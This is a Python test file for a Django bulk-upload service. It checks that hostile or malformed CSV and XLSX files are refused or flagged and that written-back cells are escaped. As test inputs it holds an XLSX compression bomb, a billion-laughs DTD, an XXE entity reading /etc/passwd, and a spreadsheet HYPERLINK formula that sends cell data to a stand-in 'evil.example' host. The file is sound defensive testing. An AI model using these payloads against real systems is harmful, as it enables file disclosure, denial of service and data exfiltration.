"""Hostile and malformed bulk files: each is refused at once or reported in its cell, with memory
bounded — 301 rows, ZIP/XLSX bombs, XML entities, a 1 MB cell, wrong encodings, formulas —
and what is written back can never run as a formula."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import zipfile

import openpyxl
import pytest

from zairyu.applications.constants import ApplicationState
from zairyu.bulk import services
from zairyu.bulk.columns import bulk_columns
from zairyu.bulk.constants import RowState
from zairyu.bulk.models import BulkImport, BulkRow
from zairyu.bulk.parsing import FileRefused, escape_cell, parse_upload
from zairyu.bulk.samples import bulk_file, bulk_rows
from zairyu.bulk.tests.conftest import make_file, signed_in, student_form, upload

pytestmark = pytest.mark.django_db


def refused(user, data: bytes, name: str = "students.csv") -> FileRefused:
    with pytest.raises(FileRefused) as caught:
        upload(user, data, name=name)
    assert not BulkImport.objects.exists()  # refused at once: nothing stored, nothing queued
    return caught.value


def fake_rows(count: int) -> list[dict[str, str]]:
    return [{"card_number": f"AB{n:08d}CD", "place_of_birth": "HANOI"} for n in range(count)]


def rewrite(xlsx: bytes, part: str, change) -> bytes:
    """The workbook with one part replaced by ``change(old bytes)``."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info.filename, change(data) if info.filename == part else data)
    return out.getvalue()


# --- size ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_301_applicants_are_refused_at_once_saying_so(staff, kind):
    data = bulk_file(student_form(), fake_rows(301), kind=kind)
    error = refused(staff, data, name=f"big.{kind}")
    assert error.code == "too_many_rows"
    assert "301 applicants" in str(error.message) and "at most 300" in str(error.message)


def test_300_applicants_are_read():
    form = student_form()
    columns = bulk_columns(form)
    parsed = parse_upload(
        data=bulk_file(form, fake_rows(300), kind="csv"), expected=[c.key for c in columns], required=set()
    )
    assert len(parsed.rows) == 300 and parsed.rows[0].number == 6 and parsed.rows[-1].number == 305


def test_an_oversized_file_is_refused_without_being_read_whole(staff, settings):
    settings.BULK_MAX_FILE_BYTES = 10_000
    error = refused(staff, b"a,b\n" * 5000)
    assert error.code == "too_large"


def test_an_xlsx_bomb_is_refused_before_it_is_unpacked(staff):
    template = bulk_file(student_form(), fake_rows(1), kind="xlsx")
    bomb = 60 * 1024 * 1024  # compresses to about 60 KB

    def inflate(data: bytes) -> bytes:
        return data.replace(b"</sheetData>", b"</sheetData>" + b" " * bomb)

    data = rewrite(template, "xl/worksheets/sheet1.xml", inflate)
    assert len(data) < 1024 * 1024
    tracemalloc.start()
    error = refused(staff, data, name="bomb.xlsx")
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert error.code == "xlsx_too_large"
    assert peak < 20 * 1024 * 1024  # the 60 MB were never unpacked


@pytest.mark.parametrize(
    "dtd",
    [
        b'<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ],
    ids=["billion-laughs", "external-entity"],
)
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml"])
def test_xml_entity_tricks_are_refused(staff, dtd, part):
    template = bulk_file(student_form(), fake_rows(1), kind="xlsx")

    def with_dtd(data: bytes) -> bytes:
        declaration, _sep, rest = data.partition(b"?>")
        return declaration + b"?>" + dtd + rest

    error = refused(staff, rewrite(template, part, with_dtd), name="entities.xlsx")
    assert error.code == "xml_entities"


def test_openpyxl_itself_refuses_entities_as_a_second_line():
    """Our scan looks at the bytes; defusedxml (used by openpyxl when installed) stops a DTD too."""
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "xls"),
        (b"PK\x03\x04garbage" + b"\x00" * 100, "xlsx_damaged"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "binary"),
        (b"", "empty"),
    ],
    ids=["old-xls", "damaged-zip", "png", "empty"],
)
def test_files_that_are_not_bulk_files_are_refused(staff, data, code):
    assert refused(staff, data).code == code


# --- cells --------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_1_mb_cell_is_reported_in_its_cell_not_stored(staff, students, kind):
    form = student_form()
    rows, _ = bulk_rows(form, students[:2])
    rows[1]["occupation"] = "x" * (1024 * 1024)
    data = bulk_file(form, rows, kind=kind)
    if kind == "xlsx":  # a workbook writer stops at Excel's 32,767 characters: write the megabyte in
        data = rewrite(
            data, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"x" * 32767, b"x" * 1024 * 1024)
        )
    bulk_import = upload(staff, data, name=f"big-cell.{kind}")
    row = BulkRow.objects.get(bulk_import=bulk_import, row_number=7)
    assert row.state == RowState.ERROR
    assert [(e["column"], e["code"]) for e in row.errors][0] == ("I", "cell_too_long")
    assert "1048576 characters" in row.errors[0]["message_en"]
    assert "occupation" not in row.raw  # the megabyte is not kept
    assert BulkRow.objects.get(bulk_import=bulk_import, row_number=6).state == RowState.DRAFT


def test_a_formula_in_a_csv_cell_is_reported_not_evaluated(staff, students):
    form = student_form()
    rows, _ = bulk_rows(form, students[:3])
    rows[0]["occupation"] = '=HYPERLINK("http://evil.example/?"&A6,"click")'
    rows[1]["occupation"] = "@SUM(1+1)"
    rows[2]["occupation"] = "-2+3"
    bulk_import = upload(staff, bulk_file(form, rows, kind="csv"))
    for number in (6, 7, 8):
        row = BulkRow.objects.get(bulk_import=bulk_import, row_number=number)
        assert ("I", "cell_formula") in [(e["column"], e["code"]) for e in row.errors], number
        assert row.raw["occupation"] == rows[number - 6]["occupation"]  # kept, to be given back
        assert "occupation" not in row.application.answers or not row.application.answers[
            "occupation"
        ].startswith(("=", "@", "-"))
        assert row.application.state == ApplicationState.ERROR_BULK


def test_a_formula_cell_in_a_workbook_is_reported_not_evaluated(staff, students):
    form = student_form()
    rows, _ = bulk_rows(form, students[:1])
    workbook = openpyxl.load_workbook(io.BytesIO(bulk_file(form, rows, kind="xlsx")))
    sheet = workbook.worksheets[0]
    sheet["I6"] = "=CONCATENATE(A6,B6)"  # a real formula cell (type "f")
    out = io.BytesIO()
    workbook.save(out)
    bulk_import = upload(staff, out.getvalue(), name="formula.xlsx")
    row = BulkRow.objects.get(bulk_import=bulk_import, row_number=6)
    assert [(e["column"], e["code"]) for e in row.errors][0] == ("I", "cell_formula")
    assert row.raw["occupation"] == "=CONCATENATE(A6,B6)"
    assert "occupation" not in row.application.answers


def test_a_refused_cell_comes_back_in_the_annotated_files_as_typed_and_inert(staff, students):
    """The user fixes the cell they typed, not a blank: the annotated CSV and workbook give back
    what was refused (a formula, an Excel error), with a leading apostrophe, marked with its error."""
    form = student_form()
    rows, _ = bulk_rows(form, students[:1])
    workbook = openpyxl.load_workbook(io.BytesIO(bulk_file(form, rows, kind="xlsx")))
    sheet = workbook.worksheets[0]
    sheet["I6"] = "=CONCATENATE(A6,B6)"
    sheet["J6"] = " =1+1"
    out = io.BytesIO()
    workbook.save(out)
    bulk_import = upload(staff, out.getvalue(), name="formula.xlsx")
    client = signed_in(staff)
    base = f"/applications/bulk/{bulk_import.public_id}"
    annotated = openpyxl.load_workbook(io.BytesIO(client.get(f"{base}/annotated.xlsx").content))
    cell = annotated.worksheets[0]["I6"]
    assert cell.data_type != "f" and cell.value == "'=CONCATENATE(A6,B6)"
    assert cell.comment is not None and "formula" in cell.comment.text
    assert annotated.worksheets[0]["J6"].value == "' =1+1"
    text = client.get(f"{base}/annotated.csv").content.decode("utf-8-sig")
    record = next(r for r in csv.reader(io.StringIO(text)) if r and r[-1].startswith("I:"))
    assert "'=CONCATENATE(A6,B6)" in record


def test_signed_numbers_and_international_phone_numbers_are_not_formulas(staff, students):
    form = student_form()
    rows, _ = bulk_rows(form, students[:1])
    rows[0]["mobile_number"] = "+81-90-1234-5678"
    bulk_import = upload(staff, bulk_file(form, rows, kind="csv"))
    row = BulkRow.objects.get(bulk_import=bulk_import)
    assert "cell_formula" not in [e["code"] for e in row.errors]
    assert row.raw["mobile_number"] == "+81-90-1234-5678"


# --- encodings ----------------------------------------------------------------------------------


def _csv_text(data: bytes) -> str:
    return data.decode("utf-8-sig")


def test_shift_jis_and_utf8_without_bom_are_read(staff, students):
    form = student_form()
    rows, _ = bulk_rows(form, students[:2])
    rows[0]["address_street"] = "大久保１丁目１番１号　メゾン新宿"
    text = _csv_text(bulk_file(form, rows, kind="csv"))
    for encoded in (text.encode("cp932"), text.encode("utf-8")):
        bulk_import = upload(staff, encoded)
        row = BulkRow.objects.get(bulk_import=bulk_import, row_number=6)
        assert row.raw["address_street"] == "大久保１丁目１番１号　メゾン新宿"
        assert bulk_import.rows_total == 2


def test_a_utf16_csv_is_refused_saying_how_to_save_it(staff, students):
    text = _csv_text(make_file(students[:1]))
    error = refused(staff, text.encode("utf-16"))
    assert error.code == "encoding" and "CSV UTF-8" in str(error.message)


def test_bytes_that_are_neither_utf8_nor_shift_jis_are_refused(staff):
    assert refused(staff, b"card_number,roman_name\n\x81\x7f\xff\xfe\xfd,\x85\x86\n").code == "encoding"


# --- columns ------------------------------------------------------------------------------------


def test_a_file_of_another_procedure_is_refused_naming_the_columns(staff, students):
    from zairyu.bulk.columns import bulk_form

    coe = bulk_form(procedure="P1", status="engineer_humanities", user_category="U5")
    error = refused(staff, bulk_file(coe, [{"passport_number": "TK1234567"}], kind="csv"))
    assert error.code in ("unknown_columns", "missing_columns")


def test_a_file_missing_a_required_column_is_refused(staff, students):
    text = _csv_text(make_file(students[:1]))
    records = list(csv.reader(io.StringIO(text)))
    index = records[4].index("occupation")
    for record in records:
        del record[index]
    out = io.StringIO()
    csv.writer(out).writerows(records)
    error = refused(staff, out.getvalue().encode())
    assert error.code == "missing_columns" and "occupation" in str(error.message)


# --- writing back -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+81-90-1234-5678", "-5", "@SUM(A1)", "\tcmd", "\r=2"])
def test_values_that_would_run_as_formulas_are_escaped(value):
    assert escape_cell(value) == "'" + value
    assert escape_cell("plain") == "plain"


def test_values_written_back_can_never_run_as_formulas(staff, students):
    form = student_form()
    rows, _ = bulk_rows(form, students[:1])
    rows[0]["mobile_number"] = "+81-90-1234-5678"
    rows[0]["occupation"] = "x" * 50  # an error, so the row is in the annotated file
    bulk_import = upload(staff, bulk_file(form, rows, kind="csv"))
    client = signed_in(staff)
    base = f"/applications/bulk/{bulk_import.public_id}"
    text = client.get(f"{base}/annotated.csv").content.decode("utf-8-sig")
    assert "'+81-90-1234-5678" in text
    for record in csv.reader(io.StringIO(text)):
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(f"{base}/annotated.xlsx").content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    # And the escaped value reads back as itself.
    again = upload(staff, client.get(f"{base}/annotated.xlsx").content, name="again.xlsx")
    assert BulkRow.objects.get(bulk_import=again, row_number=6).raw["mobile_number"] == "+81-90-1234-5678"


def test_many_rows_in_a_sheet_claimed_by_its_dimension_are_not_trusted(staff, students):
    """A sheet may claim a million rows (its <dimension>): only what is there is read, to a bound."""
    data = make_file(students[:1], kind="xlsx")
    data = rewrite(
        data,
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb"<dimension ref=\"[^\"]*\"", b'<dimension ref="A1:XFD1048576"', xml, count=1),
    )
    bulk_import = upload(staff, data, name="claims.xlsx")
    assert bulk_import.rows_total == 1
    assert services  # the same services as any upload
